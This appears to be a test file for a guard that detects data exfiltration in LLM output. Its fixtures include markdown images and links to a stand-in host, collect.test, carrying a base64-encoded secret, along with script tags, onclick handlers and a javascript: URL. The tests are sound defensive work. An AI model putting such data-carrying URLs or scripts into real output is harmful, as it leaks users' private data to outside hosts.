import { describe, expect, test } from "vitest";
import { createChecker } from "../../../src/core/check.ts";
import { type ExfiltrationOptions, exfiltration } from "../../../src/guards/output-handling/index.ts";

const foreign = "https://collect.test/p.png";
const carrying = `https://collect.test/?d=${btoa("the launch code is 4711")}`;

async function verdict(text: string, options?: ExfiltrationOptions, policy = {}) {
  return createChecker([exfiltration(options)], { policy }).check(text, { stage: "output" });
}
const ids = async (text: string, options?: ExfiltrationOptions) =>
  (await verdict(text, options)).findings.map(({ ruleId }) => ruleId);

describe("exfiltration", () => {
  test("allows no host by default", async () => {
    expect(await ids(`![x](${foreign})`)).toEqual(["output-handling/image"]);
    expect(await ids(`[x](${foreign})`)).toEqual([]);
  });

  test("lets images pass that carry no data, or all", async () => {
    expect(await ids(`![x](${foreign})`, { images: "data" })).toEqual([]);
    expect(await ids(`![x](${carrying})`, { images: "data" })).toEqual(["output-handling/image"]);
    expect(await ids(`![x](${carrying})`, { images: "allow" })).toEqual([]);
  });

  test("lets no link pass, or all", async () => {
    expect(await ids(`[x](${foreign})`, { links: "deny" })).toEqual(["output-handling/link"]);
    expect(await ids(`[x](${carrying})`, { links: "allow" })).toEqual([]);
    expect(await ids("[x](javascript:go)", { links: "allow" })).toEqual(["output-handling/script-url"]);
  });

  test("lets scripts pass", async () => {
    const text = `<script>go()</script><b onclick="go()">`;
    expect(await ids(text)).toEqual(["output-handling/script", "output-handling/event-handler"]);
    expect(await ids(text, { scripts: "allow" })).toEqual([]);
  });

  test("redacts, unless told otherwise", async () => {
    expect(await verdict("<script>go()</script>")).toMatchObject({
      action: "redact",
      text: "[REDACTED:script]go()</script>",
    });
    expect((await verdict("<script>go()</script>", { action: "block" })).action).toBe("block");
    const actions = { "output-handling/script": "flag", "output-handling/image": "block" };
    expect((await verdict("<script>go()</script>", {}, { actions })).action).toBe("allow");
    expect((await verdict(`![x](${foreign})`, {}, { actions })).action).toBe("block");
  });

  test("says where and names its catalogues", async () => {
    const { findings } = await verdict(`See [x](${carrying}).`);
    expect(findings).toEqual([
      {
        ruleId: "output-handling/link",
        type: "link",
        title: expect.any(String),
        guard: "exfiltration",
        stage: "output",
        score: 0.9,
        span: { start: 8, end: 8 + carrying.length },
        view: "raw",
        treatment: "redact",
        refs: ["LLM05:2025", "LLM02:2025", "AML.T0077"],
      },
    ]);
  });

  test.each([
    [{ allowHosts: "example.com" }, "options.allowHosts"],
    [{ allowHosts: [7] }, "options.allowHosts[0]"],
    [{ allowHosts: ["example.com", "https://example.com"] }, "options.allowHosts[1]"],
    [{ allowHosts: ["*"] }, "options.allowHosts[0]"],
    [{ allowHosts: ["*.*.com"] }, "options.allowHosts[0]"],
    [{ allowHosts: ["user@example.com"] }, "options.allowHosts[0]"],
    [{ allowHosts: ["/docs"] }, "options.allowHosts[0]"],
    [{ allowHosts: [""] }, "options.allowHosts[0]"],
    [{ allowHosts: ["example.com/a?b"] }, "options.allowHosts[0]"],
    [{ images: "no" }, "options.images"],
    [{ links: true }, "options.links"],
    [{ scripts: "data" }, "options.scripts"],
    [{ taint: "yes" }, "options.taint"],
    [{ action: "drop" }, "options.action"],
    [{ stages: ["answer"] }, "options.stages"],
    [{ hosts: [] }, 'options["hosts"]'],
  ])("refuses %j", (options, field) => {
    expect(() => exfiltration(options as never)).toThrow(
      expect.objectContaining({ code: "GUARD_INVALID_OPTIONS", message: expect.stringContaining(field) }),
    );
  });

  test("refuses sources that are no texts", async () => {
    const checker = createChecker([exfiltration()]);
    await expect(checker.check("x", { stage: "output", sources: [7] as never })).rejects.toMatchObject({
      code: "GUARD_INVALID_INPUT",
    });
  });

  test("reads floods of marks whole", async () => {
    for (const flood of [
      "> - [a]:",
      "![[[[",
      "<<<<",
      "((((",
      "](h:",
      "<a ",
      "<img ",
      '<meta x="',
      `"'`,
      "https://",
      "<style>",
      "\u001b]8;",
      "&#",
      "[a]:h:",
    ]) {
      const text = `${flood.repeat(4000)} ![x](${foreign})`;
      const found = await ids(text);
      expect(found).toContain("output-handling/image");
    }
  });
});
